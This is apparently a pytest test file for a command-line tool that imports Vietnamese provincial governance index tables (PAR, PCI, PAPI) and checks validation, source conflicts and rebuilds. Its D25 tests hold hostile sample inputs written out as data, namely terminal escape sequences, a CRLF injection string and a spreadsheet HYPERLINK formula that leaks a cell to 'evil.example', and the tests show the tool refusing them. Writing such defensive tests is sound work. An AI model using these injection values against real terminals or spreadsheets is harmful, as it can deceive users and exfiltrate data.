"""``parstats indices import``: tables built from figures already in observations.csv."""

from __future__ import annotations

import csv
import hashlib
import math
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from parstats import indices
from parstats.cli import main
from parstats.errors import InputError, UnknownProvinceError
from parstats.indices_import import find_header, import_table, parse_rank, parse_score, read_cells

# PAR Index 2023 figures published in observations.csv (score %, rank).
PAR_2023 = [
    ("Quảng Ninh", "92,18", 1),
    ("TP. Hải Phòng", "91,87", 2),
    ("Thành phố Hà Nội", "91,43", 3),
    ("Ninh Bình", "88,72", 11),
    ("Nam Định", "87,32", 29),
    ("An Giang", "81,32", 63),
]
SOURCE = "Bộ Nội vụ, Báo cáo Chỉ số cải cách hành chính năm 2023 (test extract)"


def _snapshot(home: Path) -> dict[str, str]:
    raw = home / "data" / "raw"
    return {
        str(p.relative_to(raw)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(raw.rglob("*"))
        if p.is_file()
    }


def _write_csv(path: Path, rows: list[list[object]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def _write_xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "PAR 2023"
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _par_rows(header_row: int = 3) -> list[list[object]]:
    preamble = [["BÁO CÁO CHỈ SỐ CẢI CÁCH HÀNH CHÍNH NĂM 2023", None, None, None], []][
        : header_row - 1
    ]
    # Excel cells hold numbers (doubles with binary noise in their 17th digit, as a
    # computed cell has), except one typed as text.
    body = [
        [i, name, math.nextafter(float(score.replace(",", ".")), math.inf), rank]
        for i, (name, score, rank) in enumerate(PAR_2023, start=1)
    ]
    body[-1][2] = PAR_2023[-1][1]
    return [*preamble, ["STT", "Tỉnh/Thành phố", "Điểm (%)", "Xếp hạng"], *body]


def _par_2023_score(frame: pd.DataFrame, province: str) -> pd.DataFrame:
    rows = indices.for_province(province, "PAR", frame=frame)
    return rows.loc[(rows["year"] == 2023) & (rows["measure"] == "score")]


# --------------------------------------------------------------------------- good imports


def test_excel_with_the_header_on_the_third_row(project_home, tmp_path):
    before = _snapshot(project_home)
    xlsx = _write_xlsx(tmp_path / "par2023.xlsx", _par_rows(header_row=3))
    assert find_header(read_cells(xlsx)).row == 3
    result = import_table(xlsx, index="PAR", year=2023, source=SOURCE)
    assert result.header_row == 3
    assert (result.n_provinces, result.n_figures) == (6, 12)
    # existing raw files unchanged; one new file
    after = _snapshot(project_home)
    assert {k: after[k] for k in before} == before
    assert set(after) - set(before) == {f"indices/{result.raw_file.name}"}
    assert result.raw_file.name.startswith("import_par_2023_")
    # processed table rebuilt, equal to a fresh build, and the figures collapse with
    # the observations that publish the same values
    table = pd.read_parquet(result.processed)
    pd.testing.assert_frame_equal(table, indices.build_frame(), check_dtype=False)
    frame = indices.load()
    hanoi = _par_2023_score(frame, "Hà Nội")
    assert len(hanoi) == 1 and hanoi["value"].item() == 91.43
    assert hanoi["n_sources"].item() == 3 and SOURCE in hanoi["sources"].item()
    assert not frame.loc[frame["index"] == "PAR", "conflict"].any()
    assert "par2023.xlsx [PAR 2023] row 6" in hanoi["snippets"].item()


def test_csv_with_english_headers_on_the_first_row(project_home, tmp_path):
    rows = [
        ["Province", "Score", "Rank"],
        ["Kien Giang", "64.99", "35"],
        ["Da Nang", "70.15", "5"],
    ]
    csv_path = _write_csv(tmp_path / "pci2019.csv", rows)
    result = import_table(csv_path, index="PCI", year=2019, source="VCCI, PCI 2019 report",
                          rebuild=False)
    assert result.header_row == 1 and result.n_figures == 4
    frame = indices.load()
    kg = frame.loc[
        (frame["index"] == "PCI") & (frame["province"] == "Kiên Giang") & (frame["year"] == 2019)
    ]
    # spreadsheet + provincial news + this import
    assert kg.set_index("measure").loc[["score", "rank"], "n_sources"].tolist() == [3, 3]
    assert frame["conflict"].sum() == 9  # only the known PAPI conflicts
    assert result.conflicts == () and result.agreeing == 4


def test_a_different_value_is_kept_beside_the_published_one(project_home, tmp_path):
    rows = [["Tỉnh", "Điểm"], ["Hà Nội", "91,00"]]
    import_table(_write_csv(tmp_path / "t.csv", rows), index="PAR", year=2023, source="other",
                 rebuild=False)
    frame = indices.load()
    hanoi = _par_2023_score(frame, "Hà Nội")
    assert sorted(hanoi["value"]) == [91.0, 91.43]
    assert hanoi["conflict"].all()


def test_aggregate_rows_are_kept_without_a_province(project_home, tmp_path):
    rows = [
        ["Tỉnh/Thành phố", "Điểm"],
        ["Quảng Ninh", "92,18"],
        [],
        ["Trung bình cả nước", "86,98"],
    ]
    result = import_table(_write_csv(tmp_path / "t.csv", rows), index="PAR", year=2023, source="s",
                          rebuild=False)
    assert (result.n_provinces, result.n_aggregates, result.blank_rows) == (1, 1, (3,))
    frame = indices.load()
    agg = frame.loc[frame["province"] == "(Trung bình cả nước)"]
    assert agg["province_code"].isna().all() and agg["is_aggregate"].all()


def test_the_same_file_twice_is_refused(project_home, tmp_path):
    path = _write_csv(tmp_path / "t.csv", [["Tỉnh", "Điểm"], ["Quảng Ninh", "92,18"]])
    import_table(path, index="PAR", year=2023, source="s", rebuild=False)
    with pytest.raises(InputError, match="already imported"):
        import_table(path, index="PAR", year=2023, source="s", rebuild=False)


def test_cli_import_and_show(project_home, tmp_path, capsys):
    xlsx = _write_xlsx(tmp_path / "par2023.xlsx", _par_rows(header_row=3))
    argv = ["indices", "import", str(xlsx), "--index", "PAR", "--year", "2023", "--source", SOURCE]
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert "imported 12 figures" in out and "header on row 3" in out
    assert main(["indices", "show", "--province", "Nam Dinh", "--index", "PAR"]) == 0
    assert "PAR   2023 score: 87.32 percent" in capsys.readouterr().out


# --------------------------------------------------------------------------- bad input


BAD = [
    pytest.param(
        [["Tỉnh", "Điểm", "Xếp hạng"], ["Quảng Ninh", "92,18", "1"], ["Atlantis", "90", "2"]],
        UnknownProvinceError, 3, "Atlantis", "closest", id="unknown-province",
    ),
    pytest.param(
        [["Tỉnh", "Điểm"], ["Quảng Ninh", "92,18"], ["Hà Nội", "91,43"], ["Quang Ninh", "92"]],
        InputError, 4, "Quang Ninh", "duplicate province-year: Quảng Ninh 2023 already on row 2",
        id="duplicate-province-year",
    ),
    pytest.param(
        [["Tỉnh", "Xếp hạng"], ["Quảng Ninh", "0"]],
        InputError, 2, "0", "rank 0 is outside 1..63", id="rank-0",
    ),
    pytest.param(
        [["Tỉnh", "Xếp hạng"], ["Quảng Ninh", "1"], ["An Giang", "64"]],
        InputError, 3, "64", "rank 64 is outside 1..63", id="rank-64",
    ),
    pytest.param(
        [["Tỉnh", "Điểm"], ["Quảng Ninh", "101,5"]],
        InputError, 2, "101,5", "outside the PAR 2023 scale percent 0-100", id="score-above-scale",
    ),
    pytest.param(
        [["Tỉnh", "Điểm"], ["Quảng Ninh", "n/a"]],
        InputError, 2, "n/a", "score must be a number", id="non-numeric-score",
    ),
    pytest.param(
        [["Tỉnh", "Xếp hạng"], ["Quảng Ninh", "first"]],
        InputError, 2, "first", "rank must be a whole number", id="non-numeric-rank",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("rows", "error", "line", "value", "message"), BAD)
def test_bad_rows_are_refused_with_file_line_and_value(
    project_home, tmp_path, rows, error, line, value, message
):
    before = _snapshot(project_home)
    path = _write_csv(tmp_path / "bad.csv", rows)
    with pytest.raises(error) as info:
        import_table(path, index="PAR", year=2023, source=SOURCE)
    exc = info.value
    assert exc.path == path and exc.line == line and exc.value == value
    assert message in str(exc)
    assert f"bad.csv, line {line}" in str(exc)
    assert _snapshot(project_home) == before  # nothing in data/raw changed
    assert not (project_home / "data" / "processed" / "indices.parquet").exists()


@pytest.mark.parametrize("source", ["", "   "])
def test_a_source_is_required(project_home, tmp_path, source):
    before = _snapshot(project_home)
    path = _write_csv(tmp_path / "t.csv", [["Tỉnh", "Điểm"], ["Quảng Ninh", "92,18"]])
    with pytest.raises(InputError, match="a source is required"):
        import_table(path, index="PAR", year=2023, source=source)
    assert _snapshot(project_home) == before


def test_bad_arguments_are_refused(project_home, tmp_path):
    path = _write_csv(tmp_path / "t.csv", [["Tỉnh", "Điểm"], ["Quảng Ninh", "92,18"]])
    with pytest.raises(InputError, match="--index must be one of"):
        import_table(path, index="XYZ", year=2023, source="s")
    with pytest.raises(InputError, match="--year"):
        import_table(path, index="PAR", year=2026, source="s")


def test_a_file_without_a_header_is_refused(project_home, tmp_path):
    path = _write_csv(tmp_path / "t.csv", [["a", "b"], ["Quảng Ninh", "92,18"]])
    with pytest.raises(InputError, match="no header row"):
        import_table(path, index="PAR", year=2023, source="s")


def test_cli_reports_a_bad_file_and_exits_2(project_home, tmp_path, capsys):
    path = _write_csv(tmp_path / "bad.csv", [["Province", "Rank"], ["Quang Ninh", "64"]])
    argv = ["indices", "import", str(path), "--index", "PAR", "--year", "2023", "--source", "s"]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "bad.csv, line 2" in err and "rank 64 is outside 1..63" in err


@pytest.mark.parametrize(
    ("text", "value"), [("86,98", 86.98), ("86.98", 86.98), ("86,98%", 86.98), ("92", 92.0)]
)
def test_parse_score(text, value):
    assert parse_score(text) == value


@pytest.mark.parametrize(("text", "value"), [("12", 12), ("12.0", 12), ("12/63", 12)])
def test_parse_rank(text, value):
    assert parse_rank(text) == value


# --------------------------------------------------------------------------- long and wide tables


def test_a_long_table_keeps_every_row_source_and_extra_column(project_home, tmp_path):
    rows = [
        ["index", "province", "year", "measure", "value", "dimension", "source", "snippet"],
        ["PAPI", "Hà Nội", "2024", "sub-dimension: Civic Knowledge", "1,26411", "Participation",
         "https://example.org/papi-2024.xlsx", "row P01, column SC11"],
        ["PAPI", "Đà Nẵng", "2024", "dimension: Transparency", "5.1", "", "", ""],
        [],
        ["PAPI", "Kien Giang", "2023", "total (unweighted)", "40.989", "", "", "Kiên Giang row"],
    ]  # fmt: skip
    path = _write_csv(tmp_path / "papi_long.csv", rows)
    result = import_table(path, index="PAPI", source="CECODES, RTA & UNDP, PAPI 2024 report",
                          source_kind="official_report", rebuild=False)  # fmt: skip
    assert (result.shape, result.n_figures, result.years) == ("long", 3, (2023, 2024))
    assert result.blank_rows == (4,) and result.raw_file.name.startswith("import_papi_2023-2024_")
    written = list(csv.DictReader(open(result.raw_file, encoding="utf-8")))
    assert [r["source"] for r in written] == [
        "https://example.org/papi-2024.xlsx",  # the row's own source
        "CECODES, RTA & UNDP, PAPI 2024 report",  # --source fills the empty one
        "CECODES, RTA & UNDP, PAPI 2024 report",
    ]
    assert written[0]["value"] == "1.26411"  # decimal comma read, digits kept
    assert written[0]["snippet"] == "row P01, column SC11 [dimension: Participation]"
    assert written[1]["snippet"] == "papi_long.csv row 3"
    assert {r["source_kind"] for r in written} == {"official_report"}
    frame = indices.load()
    kg = frame.loc[(frame["province"] == "Kiên Giang") & (frame["year"] == 2023)
                   & (frame["measure_id"] == "total_unweighted")]  # fmt: skip
    # the imported figure agrees with the sum of the sub-dimensions (40.98923) and the
    # press figure (40.98): no conflict, three values of one canonical measure
    assert len(kg) == 3 and not kg["conflict"].any()


def _pci_subindex_table() -> list[list[object]]:
    """A PCI 2019 sub-index table as the portal prints it (values made up for the test)."""
    from parstats.provinces import all_provinces

    header = ["STT", "Tỉnh/Thành phố", "Gia nhập thị trường", "Tính minh bạch",
              "Chi phí thời gian", "Ghi chú"]  # fmt: skip
    body = [[i, p.name_vi, 7.0 + i / 100, 6.0 + i / 100, 5.5, ""]
            for i, p in enumerate(all_provinces(), start=1)]  # fmt: skip
    return [["CHỈ SỐ THÀNH PHẦN PCI 2019"], header, *body]


def test_a_wide_table_with_a_column_per_sub_index(project_home, tmp_path):
    path = _write_xlsx(tmp_path / "pci2019_subindices.xlsx", _pci_subindex_table())
    result = import_table(path, index="PCI", year=2019, source="VCCI, PCI 2019 (test table)",
                          rebuild=False)  # fmt: skip
    assert (result.shape, result.header_row, result.n_provinces) == ("wide", 2, 63)
    assert result.n_figures == 63 * 3
    assert result.skipped_columns == ("STT", "Ghi chú")  # listed, not silently dropped
    frame = indices.load()
    table = indices.panel("PCI", "Sub-Index 3: Transparency", frame=frame)
    # with the sub-index table imported, the transparency panel has all 63 provinces in 2019
    assert table[2019].notna().sum() == 63 and table.loc["Hà Nội", 2019] == 6.01
    written = {r["measure"] for r in csv.DictReader(open(result.raw_file, encoding="utf-8"))}
    assert written == {"sub-index: Gia nhập thị trường", "sub-index: Tính minh bạch",
                       "sub-index: Chi phí thời gian"}  # fmt: skip


# --------------------------------------------------------------------------- conflicts


def test_an_import_says_which_figures_conflict_and_how_precedence_settles_them(
    project_home, tmp_path
):
    rows = [
        ["Tỉnh/Thành phố", "Điểm", "Xếp hạng"],
        ["Hà Nội", "70,00", "1"],  # spreadsheet (official dataset): 68.7... rank 9
        ["Kiên Giang", "64,99", "35"],  # agrees with the spreadsheet and the press
    ]
    path = _write_csv(tmp_path / "press.csv", rows)
    result = import_table(path, index="PCI", year=2019, source="Báo X, PCI 2019",
                          rebuild=False)  # fmt: skip
    assert result.source_kind == "press"
    assert result.agreeing == 2
    outcomes = {(c.province, c.measure_id): c.outcome for c in result.conflicts}
    assert outcomes == {("Hà Nội", "score"): "kept", ("Hà Nội", "rank"): "kept"}
    lines = "\n".join(result.summary())
    assert "2 figures conflict with existing ones: 0 replace them" in lines
    assert "2 kept the existing ones" in lines
    assert "kept: PCI 2019 Hà Nội score: new 70.00 (press) vs existing 68." in lines
    # an official dataset outranks the spreadsheet's re-hosting? No: equal rank, unresolved;
    # an official report outranks the press figure of PAR 2023
    rows = [["Tỉnh", "Điểm"], ["Hà Nội", "91,40"], ["Quảng Ninh", "92,18"]]
    report = import_table(_write_csv(tmp_path / "moha.csv", rows), index="PAR", year=2023,
                          source="Bộ Nội vụ, Báo cáo PAR INDEX 2023",
                          source_kind="official_report", rebuild=False)  # fmt: skip
    assert [(c.province, c.outcome) for c in report.conflicts] == [("Hà Nội", "replaced")]
    assert "new 91.40 (official_report) vs existing 91.43 (press)" in "\n".join(report.summary())
    rows = [["Tỉnh", "Điểm"], ["Nam Định", "87,00"]]
    tie = import_table(_write_csv(tmp_path / "tie.csv", rows), index="PAR", year=2023,
                       source="Báo Y", rebuild=False)  # fmt: skip
    assert [c.outcome for c in tie.conflicts] == ["unresolved"]
    # the listing: every conflict with its resolution
    listing = indices.conflicts(province="Hà Nội")
    par = listing.loc[(listing["index"] == "PAR") & (listing["year"] == 2023)]
    assert par.iloc[0]["preferred"] and par.iloc[0]["source_kind"] == "official_report"
    assert "official_report outranks press" in par.iloc[0]["note"]
    nam = indices.conflicts(province="Nam Dinh")
    assert not nam["preferred"].any()  # unresolved: neither is used
    with pytest.warns(indices.ConflictWarning, match="Nam Định 2023: left missing"):
        table = indices.panel("PAR", "score", errors="ignore")
    assert pd.isna(table.loc["Nam Định", 2023]) and table.loc["Hà Nội", 2023] == 91.4


def test_cli_import_prints_the_conflicts(project_home, tmp_path, capsys):
    path = _write_csv(tmp_path / "t.csv", [["Tỉnh", "Điểm"], ["Hà Nội", "90"]])
    argv = ["indices", "import", str(path), "--index", "PAR", "--year", "2023",
            "--source", "Báo Z", "--no-rebuild"]  # fmt: skip
    assert main(argv) == 0
    out = capsys.readouterr().out
    assert "1 figures conflict with existing ones: 0 replace them" in out
    assert "unresolved: PAR 2023 Hà Nội score: new 90 (press) vs existing 91.43 (press)" in out
    assert "data/processed not rebuilt: run `parstats build`" in out


# --------------------------------------------------------------------------- audit defects


def _table_rows(processed: Path, name: str) -> tuple[int, int]:
    with open(processed / f"{name}.csv", encoding="utf-8", newline="") as fh:
        n_csv = sum(1 for _ in csv.DictReader(fh))
    return len(pd.read_parquet(processed / f"{name}.parquet")), n_csv


def test_d8_api_import_rebuilds_the_whole_package(project_home, tmp_path):
    """D8: import_table(rebuild=True) rewrote indices.parquet only (csv, datapackage stale)."""
    import json

    from parstats.build import build

    processed = project_home / "data" / "processed"
    build()
    before = _table_rows(processed, "indices")
    path = _write_csv(tmp_path / "pci2024.csv", [["Province", "Score", "Rank"],
                                                 ["Da Nang", "70.1", "2"]])  # fmt: skip
    import_table(path, index="PCI", year=2024, source="VCCI, PCI 2024")
    after = _table_rows(processed, "indices")
    assert after[0] == after[1] == before[0] + 2  # parquet and csv agree
    package = json.loads((processed / "datapackage.json").read_text(encoding="utf-8"))
    resource = next(r for r in package["resources"] if r["name"] == "indices")
    assert resource["rows"] == after[0]
    assert any("import_pci_2024_" in s.get("path", "") for s in package["sources"])
    delivery = pd.read_parquet(processed / "delivery.parquet")
    assert (delivery["index_last_year"] == 2024).any()  # delivery rebuilt from the new table


def _unlisted_plan(home: Path) -> Path:
    stray = home / "data" / "raw" / "plans" / "999_unlisted.txt"
    stray.write_text("Kế hoạch cải cách hành chính năm 2024\n", encoding="utf-8")
    return stray


def test_d24_import_whose_rebuild_would_fail_writes_nothing(project_home, tmp_path, capsys):
    """D24: the CLI wrote the raw file, then the rebuild failed; a re-run: 'already imported'."""
    _unlisted_plan(project_home)
    before = _snapshot(project_home)
    path = _write_csv(tmp_path / "t.csv", [["Tỉnh", "Điểm"], ["Quảng Ninh", "92,18"]])
    argv = ["indices", "import", str(path), "--index", "PAR", "--year", "2023", "--source", "s"]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "nothing imported: data/processed could not be rebuilt" in err
    assert "999_unlisted.txt" in err and "--no-rebuild" in err
    assert _snapshot(project_home) == before  # no half-applied import


def test_d24_a_rebuild_failing_after_the_write_says_what_to_run(project_home, tmp_path,
                                                               monkeypatch):
    import parstats.build

    def broken(**kwargs):
        raise InputError("disk full (simulated)")

    monkeypatch.setattr(parstats.build, "build", broken)
    path = _write_csv(tmp_path / "t.csv", [["Tỉnh", "Điểm"], ["Quảng Ninh", "92,18"]])
    with pytest.raises(InputError) as info:
        import_table(path, index="PAR", year=2023, source="s")
    message = str(info.value)
    assert "imported 1 figures into" in message and "disk full (simulated)" in message
    assert "run `parstats build`" in message
    with pytest.raises(InputError, match="already imported .*run `parstats build`"):
        import_table(path, index="PAR", year=2023, source="s", rebuild=False)


def test_d10_an_excel_formula_without_a_saved_value_is_refused(project_home, tmp_path):
    """D10: a formula cell with no cached value read as empty: the score was silently lost."""
    path = _write_xlsx(tmp_path / "formula.xlsx",
                       [["Tỉnh/Thành phố", "Điểm", "Xếp hạng"], ["Đắk Lắk", "=80+5", 15]])
    before = _snapshot(project_home)
    with pytest.raises(InputError) as info:
        import_table(path, index="PAR", year=2024, source="x", rebuild=False)
    assert info.value.line == 2 and info.value.value == "=80+5"
    assert "formula without a saved value" in str(info.value) and "'Điểm'" in str(info.value)
    assert _snapshot(project_home) == before


@pytest.mark.parametrize("source", [
    "VCCI \x1b]0;pwned-title\x07\x1b[2J\x1b[31mfake\x1b[0m",
    "VCCI\r\nInjected: line",
    '=HYPERLINK("http://evil.example/?d="&A1,"Nguồn")',
])  # fmt: skip
def test_d25_control_characters_and_formulas_in_the_source_are_refused(project_home, tmp_path,
                                                                      source):
    """D25 (and D4's --source route): escapes were stored and printed raw."""
    before = _snapshot(project_home)
    path = _write_csv(tmp_path / "t.csv", [["Tỉnh", "Điểm"], ["Quảng Ninh", "92,18"]])
    with pytest.raises(InputError, match="control character|must not start with"):
        import_table(path, index="PAR", year=2023, source=source, rebuild=False)
    assert _snapshot(project_home) == before


def test_d25_a_raw_file_with_a_control_character_is_refused(project_home):
    extra = project_home / "data" / "raw" / "indices" / "zz_escape.csv"
    extra.write_text(",".join(indices.RAW_COLUMNS) + "\nPCI,Hà Nội,2019,score,68.80,"
                     "\"http://x \x1b[2J\",s\n", encoding="utf-8")  # fmt: skip
    with pytest.raises(InputError, match="control character") as info:
        indices.build_frame()
    assert info.value.path == extra and info.value.line == 2


def test_d25_show_escapes_control_characters(monkeypatch, capsys):
    frame = indices.load()
    row = frame.loc[(frame["province_code"] == "66") & (frame["index"] == "PAR")].head(1)
    row = row.assign(sources="VCCI \x1b]0;pwned\x07\x1b[2J", value_text="1\x1b[31m")
    monkeypatch.setattr(indices, "for_province", lambda province, index=None: row)
    assert main(["indices", "show", "--province", "Dak Lak", "--sources"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in out
